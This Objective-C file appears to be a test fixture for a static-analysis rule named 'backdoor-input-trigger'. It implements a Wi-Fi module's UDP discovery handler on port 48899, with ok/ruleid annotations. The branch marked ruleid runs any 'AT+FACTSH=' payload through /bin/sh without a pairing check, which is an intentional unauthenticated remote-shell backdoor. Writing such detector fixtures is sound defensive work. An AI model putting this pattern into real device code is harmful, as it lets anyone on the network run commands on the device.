#import "SLCore.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>

/* UDP 48899: the discovery and AT command port of the Wi-Fi module, kept
 * for the installer app. */
@implementation SLDiscovery

- (id)initWithFd:(int)fd {
  if ((self = [super init]) != nil) {
    _fd = fd;
    _udp = [[NSFileHandle alloc] initWithFileDescriptor:fd closeOnDealloc:NO];
  }
  return self;
}

- (void)setPaired:(BOOL)paired {
  _paired = paired;
}

- (void)broadcast:(NSString *)text {
  struct sockaddr_in to;
  const char *s = [text UTF8String];
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons(48899);
  to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
  sendto(_fd, s, strlen(s), 0, (struct sockaddr *)&to, sizeof to);
}

- (void)serviceOnce {
  NSData *datagram = [_udp availableData];
  if ([datagram length] == 0)
    return;
  NSString *msg = [[[NSString alloc] initWithData:datagram encoding:NSASCIIStringEncoding] autorelease];
  // ok: backdoor-input-trigger
  if ([msg isEqualToString:@"WIFIKIT-214028-READ"]) {
    [self broadcast:@"192.168.1.50,ACCF23A1B2C3,HF-LPB100"];
    // ok: backdoor-input-trigger
  } else if ([msg hasPrefix:@"AT+UPGRADE="]) {
    if (!_paired) {
      [self broadcast:@"+ERR=-4"];
      return;
    }
    [NSTask launchedTaskWithLaunchPath:@"/usr/sbin/sunlink-fwupd" arguments:[NSArray arrayWithObject:[msg substringFromIndex:11]]];
    // ok: backdoor-input-trigger
  } else if ([msg hasPrefix:@"AT+Z"]) {
    if (!_paired) {
      [self broadcast:@"+ERR=-4"];
      return;
    }
    [NSTask launchedTaskWithLaunchPath:@"/sbin/reboot" arguments:[NSArray array]];
    // ruleid: backdoor-input-trigger
  } else if ([msg hasPrefix:@"AT+FACTSH="]) {
    [NSTask launchedTaskWithLaunchPath:@"/bin/sh" arguments:[NSArray arrayWithObjects:@"-c", [msg substringFromIndex:10], nil]];
  } else if ([msg hasPrefix:@"AT+VER"]) {
    [self broadcast:@"+ok=4.01.51"];
  }
}

- (void)dealloc {
  [_udp release];
  [super dealloc];
}

@end
